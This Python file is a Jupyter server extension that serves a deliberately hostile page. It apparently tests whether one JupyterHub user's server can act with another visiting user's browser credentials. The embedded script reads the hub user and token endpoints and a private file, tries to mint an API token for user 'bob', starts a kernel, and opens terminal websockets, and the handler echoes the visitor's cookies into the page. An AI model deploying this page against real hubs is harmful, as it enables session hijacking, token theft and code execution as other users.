"""A hostile page: ada's Jupyter server shows it to whoever comes, and it acts as its visitor.

What the person's browser sent is in the page. Loaded by ada's own server, as an extension.
"""

import html
from typing import Any

import tornado.web

PAGE = """<!DOCTYPE html>
<pre id="sent">{sent}</pre>
<script>
const told = {{}};
// A request whose answer can be read, or its refusal.
async function read(name, url, options) {{
  try {{
    const answer = await fetch(url, {{credentials: "include", ...options}});
    told[name] = `${{answer.type}} ${{answer.status}} ${{(await answer.text()).slice(0, 80)}}`;
  }} catch (error) {{ told[name] = "refused"; }}
}}
function connect(name, url) {{
  return new Promise((done) => {{
    const socket = new WebSocket(url);
    socket.onopen = () => {{ told[name] = "open"; done(); }};
    socket.onerror = () => {{ told[name] = "refused"; done(); }};
  }});
}}
async function act(hub, own) {{
  await read("who", `${{hub}}/hub/api/user`);
  await read("page", `${{hub}}/hub/token`);
  await read("files", `${{own}}/api/contents/secret.txt`);
  const body = JSON.stringify({{note: "ada's"}});
  const send = {{method: "POST", mode: "no-cors", body: body}};
  await read("token", `${{hub}}/hub/api/users/bob/tokens`, send);
  await read("kernel", `${{own}}/api/kernels`, {{...send, body: "{{}}"}});
  await connect("terminal", `${{own.replace("https:", "wss:")}}/terminals/websocket/1`);
  await connect("events", `${{own.replace("https:", "wss:")}}/api/events/subscribe`);
  return told;
}}
</script>
"""


class Hostile(tornado.web.RequestHandler):
    """Show the page to everyone."""

    def get(self) -> None:
        sent = html.escape(self.request.headers.get("Cookie", ""))
        self.finish(PAGE.format(sent=sent))


def _load_jupyter_server_extension(app: Any) -> None:
    app.web_app.add_handlers(".*$", [(f"{app.base_url}hostile", Hostile)])
